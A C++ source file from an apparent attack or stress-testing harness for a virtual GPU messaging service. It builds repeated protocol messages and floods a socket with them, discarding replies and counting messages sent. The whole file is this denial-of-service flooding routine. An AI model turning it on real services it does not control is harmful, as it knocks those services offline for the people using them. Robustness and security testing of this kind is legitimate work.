// SPDX-License-Identifier: MIT
#include "flood.h"

#include <poll.h>
#include <sys/socket.h>

#include <array>
#include <cerrno>

namespace vgpu::attack {

std::vector<std::byte> repeat(const vgpu_msg_header& header, std::span<const std::byte> payload,
                              std::size_t count) {
    vgpu_msg_header sent = header;
    sent.payload_len = static_cast<std::uint16_t>(payload.size());
    const auto head = std::as_bytes(std::span(&sent, 1));
    std::vector<std::byte> block;
    block.reserve(count * (head.size() + payload.size()));
    for (std::size_t i = 0; i < count; ++i) {
        block.insert(block.end(), head.begin(), head.end());
        block.insert(block.end(), payload.begin(), payload.end());
    }
    return block;
}

void flood(int fd, std::span<const std::byte> block, std::uint64_t messages, bool reads,
           const Attacker& attacker) {
    constexpr int kWaitMs = 100;
    std::array<std::byte, 65536> dropped{};
    std::span<const std::byte> left = block;
    for (;;) {
        const ssize_t sent = ::send(fd, left.data(), left.size(), MSG_DONTWAIT | MSG_NOSIGNAL);
        if (sent < 0 && errno != EAGAIN && errno != EINTR) {
            return;
        }
        if (sent > 0) {
            left = left.subspan(static_cast<std::size_t>(sent));
            if (left.empty()) {
                left = block;
                attacker.count(messages);
            }
        }
        ssize_t received = -1;
        if (reads) {
            received = ::recv(fd, dropped.data(), dropped.size(), MSG_DONTWAIT);
            if (received == 0 || (received < 0 && errno != EAGAIN && errno != EINTR)) {
                return;
            }
        }
        if (sent < 0 && received < 0) {
            const auto wanted = static_cast<short>(reads ? POLLIN | POLLOUT : POLLOUT);
            pollfd entry{.fd = fd, .events = wanted, .revents = 0};
            ::poll(&entry, 1, kWaitMs);
        }
    }
}

}  // namespace vgpu::attack
